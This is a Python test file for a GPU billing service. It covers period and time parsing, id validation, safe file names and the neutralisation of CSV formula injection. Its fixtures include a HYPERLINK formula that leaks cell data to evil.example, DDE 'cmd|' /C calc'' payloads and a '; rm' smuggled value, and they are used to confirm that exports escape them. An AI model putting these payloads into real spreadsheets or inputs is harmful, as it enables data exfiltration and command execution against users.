"""The billing edges' parsing rules and CSV neutralisation, over plain values (issue 15)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from schemas.catalog import Project, Subsidy
from schemas.invoice import Invoice, InvoiceLine
from services.billing import domain
from services.billing.api import ApiError, invoice_id_project, project_id_param, rfc3339_text
from services.billing.export import (
    CSV_LINE_END,
    FORMULA_STARTS,
    csv_cell,
    focus_csv,
    invoices_csv,
    safe_file_name,
)

HOSTILE_ID = '=HYPERLINK("http://evil.example/?"&A1,"x")'
HOSTILE_MODEL = "@SUM(1+1)*cmd|' /C calc'!A0"
UTC = dt.UTC


def plain_number(text: str) -> bool:
    return re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", text) is not None


def evaluable(cell: str) -> bool:
    """Whether a spreadsheet may read the cell as a formula (OWASP's list, full-width too)."""
    return bool(cell) and cell[0] in FORMULA_STARTS and not plain_number(cell)


def hostile_invoice() -> Invoice:
    return Invoice(
        invoice_id=f"INV-2026-11-{HOSTILE_ID}",
        project_id=HOSTILE_ID,
        period="2026-11",
        status="draft",
        lines=[
            InvoiceLine(
                gpu_model=HOSTILE_MODEL,
                gpu_hours="1.000000",
                rate_hkd="26.00",
                subsidised=True,
                amount_hkd="26.00",
            ),
            InvoiceLine(
                gpu_model="H800",
                gpu_hours="-0.500000",
                rate_hkd="26.00",
                subsidised=False,
                amount_hkd="-13.00",
                adjustment_for_period="2026-10",
            ),
        ],
        gross_hkd="13.00",
        subsidy_hkd="12.50",
        net_hkd="0.50",
        subsidy_cap_remaining_hkd="100.00",
        flags=["unknown_project"],
    )


# --- periods and times ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "bad",
    [
        "0001-01",
        "9999-12",
        "0000-00",
        "2026-13",
        "2026-00",
        "2026-11\n",
        "2026-11\r\n",
        " 2026-11",
        "1999-12",
        "3000-01",
        "\uff12\uff10\uff12\uff16-11",  # full-width digits: `\d` would take them
        "\u0662\u0660\u0662\u0666-11",  # Arabic-Indic digits
        "2026-11; rm",
    ],
)
def test_a_period_outside_years_2000_to_2999_or_not_exactly_yyyy_mm_is_refused(bad: str) -> None:
    with pytest.raises(domain.InvalidPeriod) as caught:
        domain.parse_period(bad)
    assert "YYYY-MM, year 2000 to 2999" in str(caught.value)


@given(st.integers(domain.MIN_PERIOD_YEAR, domain.MAX_PERIOD_YEAR), st.integers(1, 12))
def test_every_accepted_period_has_bounds_in_utc_and_a_following_month(
    year: int, month: int
) -> None:
    period = f"{year:04d}-{month:02d}"
    assert domain.parse_period(period) == period
    start, end = domain.period_bounds(period)
    assert start < end and start.tzinfo is UTC
    assert domain.period_of(start) == period


@given(st.text(max_size=12))
def test_any_text_is_a_period_only_when_it_matches_the_documented_pattern(text: str) -> None:
    documented = re.fullmatch(domain.PERIOD_JSON_PATTERN[1:-1], text, re.ASCII)
    try:
        domain.parse_period(text)
    except domain.InvalidPeriod:
        assert documented is None
    else:
        assert documented is not None


@pytest.mark.parametrize(
    "moment",
    [
        dt.datetime(1, 1, 1, tzinfo=dt.timezone(dt.timedelta(hours=1))),  # UTC would be year 0
        dt.datetime(9999, 12, 31, 23, 59, 59, tzinfo=dt.timezone(dt.timedelta(hours=-1))),
        dt.datetime(9999, 12, 31, 23, 59, 59),
        dt.datetime(1969, 12, 31, 23, 59, 59, tzinfo=UTC),
        dt.datetime(3000, 1, 1, 0, 0, 1, tzinfo=UTC),
    ],
)
def test_a_query_time_outside_1970_to_3000_is_refused_before_it_overflows(
    moment: dt.datetime,
) -> None:
    with pytest.raises(domain.InvalidTime):
        domain.query_time(moment)


def test_a_query_time_is_an_aware_utc_instant_and_naive_means_utc() -> None:
    hkt = dt.timezone(dt.timedelta(hours=8))
    assert domain.query_time(dt.datetime(2026, 11, 1, 8, tzinfo=hkt)) == dt.datetime(
        2026, 11, 1, tzinfo=UTC
    )
    assert domain.query_time(dt.datetime(2026, 11, 1)).tzinfo is UTC
    assert domain.query_time(domain.MIN_QUERY_TIME) == domain.MIN_QUERY_TIME
    assert domain.query_time(domain.MAX_QUERY_TIME) == domain.MAX_QUERY_TIME


@given(st.datetimes(timezones=st.timezones()))
def test_any_aware_time_is_either_refused_by_name_or_a_utc_instant_in_range(
    moment: dt.datetime,
) -> None:
    try:
        found = domain.query_time(moment)
    except domain.InvalidTime:
        return
    assert domain.MIN_QUERY_TIME <= found <= domain.MAX_QUERY_TIME
    found.astimezone(domain.HONG_KONG)  # and it converts to Asia/Hong_Kong


# --- ids -----------------------------------------------------------------------------------------


def test_an_invoice_id_names_its_project_and_anything_else_names_no_invoice() -> None:
    assert invoice_id_project("INV-2026-11-hkgai-llm") == "hkgai-llm"
    assert invoice_id_project("INV-2026-11-a-b c") == "a-b c"
    for bad in [
        "INV-nope",
        "INV-2026-13-p",
        "INV-0001-01-p",
        "INV-2026-11-",
        "INV-2026-11-p\n",
        "INV-2026-11-p|q",
        "INV-2026-11-p\x00",
        "INV-2026-11-" + "p" * 257,
    ]:
        with pytest.raises(ApiError) as caught:
            invoice_id_project(bad)
        assert (caught.value.status, caught.value.error) == (404, "not_found"), bad


@pytest.mark.parametrize("bad", ["", "a|b", "p\n", "p\r", "p\x00", "caf\u00e9", "p" * 257])
def test_a_project_id_outside_the_usage_text_rule_is_a_named_400(bad: str) -> None:
    with pytest.raises(ApiError) as caught:
        project_id_param(bad)
    assert (caught.value.status, caught.value.error) == (400, "invalid_project_id")


@given(st.text())
def test_any_text_becomes_a_file_name_without_quotes_newlines_or_separators(text: str) -> None:
    name = safe_file_name(text)
    assert name and len(name) <= 200
    assert re.fullmatch(r"[A-Za-z0-9_-][A-Za-z0-9._-]*", name), name
    assert safe_file_name(name) == name


def test_a_safe_invoice_id_keeps_its_name() -> None:
    assert safe_file_name("INV-2026-11-hkgai-llm") == "INV-2026-11-hkgai-llm"
    assert safe_file_name('INV-2026-11-a"b\r\n/../x') == "INV-2026-11-a_b___.._x"


# --- CSV neutralisation --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+1", "'-1+1"),
        ("-1e5", "'-1e5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("-", "'-"),
        ("-12.50", "-12.50"),
        ("-0.500000", "-0.500000"),
        ("26.00", "26.00"),
        ("H800", "H800"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_a_cell_that_could_start_a_formula_gets_a_quote_and_a_plain_number_stays(
    cell: str, written: str
) -> None:
    assert csv_cell(cell) == written


@given(st.text())
def test_any_text_becomes_a_cell_no_spreadsheet_evaluates_and_round_trips_otherwise(
    text: str,
) -> None:
    cell = csv_cell(text)
    assert not evaluable(cell)
    assert cell == ("'" + text if evaluable(text) else text)
    # and the csv module carries it through quoting intact
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator=CSV_LINE_END).writerow([cell, "x"])
    assert next(csv.reader(io.StringIO(buffer.getvalue(), newline=""))) == [cell, "x"]


@given(st.decimals(min_value=-(10**12), max_value=10**12, places=2, allow_nan=False))
def test_any_money_amount_stays_a_number(amount: Decimal) -> None:
    text = domain.money(amount)
    assert csv_cell(text) == text


def test_invoice_csv_neutralises_untrusted_ids_and_models_and_keeps_negative_amounts() -> None:
    rows = list(csv.reader(io.StringIO(invoices_csv([hostile_invoice()]), newline="")))
    cells = [cell for row in rows[1:] for cell in row]

    assert not [cell for cell in cells if evaluable(cell)]
    assert rows[1][:2] == [f"INV-2026-11-{HOSTILE_ID}", "'" + HOSTILE_ID]
    assert rows[1][5] == "'" + HOSTILE_MODEL
    assert (rows[2][6], rows[2][9]) == ("-0.500000", "-13.00")


def test_focus_csv_neutralises_untrusted_names_and_schemes_and_keeps_the_credit_numeric() -> None:
    projects = {
        HOSTILE_ID: Project.model_construct(
            id=HOSTILE_ID,
            name="+cmd|' /C calc'!A0",
            subsidy=Subsidy(
                scheme="-AISS",
                rate=Decimal("0.5"),
                cap_hkd=Decimal("100.00"),
                valid_from=dt.date(2026, 1, 1),
                valid_to=dt.date(2026, 12, 31),
            ),
        )
    }
    rows = list(csv.DictReader(io.StringIO(focus_csv([hostile_invoice()], projects, "=x"))))
    cells = [cell for row in rows for cell in row.values()]

    assert not [cell for cell in cells if evaluable(cell)]
    assert {row["BillingAccountName"] for row in rows} == {"'+cmd|' /C calc'!A0"}
    assert {row["ProviderName"] for row in rows} == {"'=x"}
    credit = next(row for row in rows if row["ChargeCategory"] == "Credit")
    assert (credit["BilledCost"], credit["x_SubsidyScheme"]) == ("-12.50", "'-AISS")
    assert sum(Decimal(row["BilledCost"]) for row in rows) == Decimal("0.50")


def test_a_name_with_line_breaks_stays_inside_its_cell() -> None:
    invoice = hostile_invoice().model_copy(
        update={"project_id": "p", "invoice_id": "INV-2026-11-p"}
    )
    projects = {"p": Project.model_construct(id="p", name="a\rb\nc\r\nd", subsidy=None)}
    text = focus_csv([invoice], projects, "gpumeter")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))

    assert text.endswith(CSV_LINE_END)
    assert [row["SubAccountName"] for row in rows] == [
        "a\rb\nc\r\nd"
    ] * 3  # two lines and the credit


@pytest.mark.parametrize(
    "text",
    [
        "2026-11-01T00:00:00Z",
        "2026-11-01t00:00:00.123456+08:00",
        "2026-11-01 00:00:00",
        "2026-11-01T00:00:00-01:00",
    ],
)
def test_query_times_are_rfc_3339_text(text: str) -> None:
    assert rfc3339_text(text) == text


@pytest.mark.parametrize(
    "text", ["0.5", "1700000000", "2026-11-01", "2026-W44", "yesterday", "2026-11-01T00:00:00Z\n"]
)
def test_numbers_dates_and_other_iso_forms_are_not_query_times(text: str) -> None:
    with pytest.raises(ValueError, match="not an RFC 3339 time"):
        rfc3339_text(text)
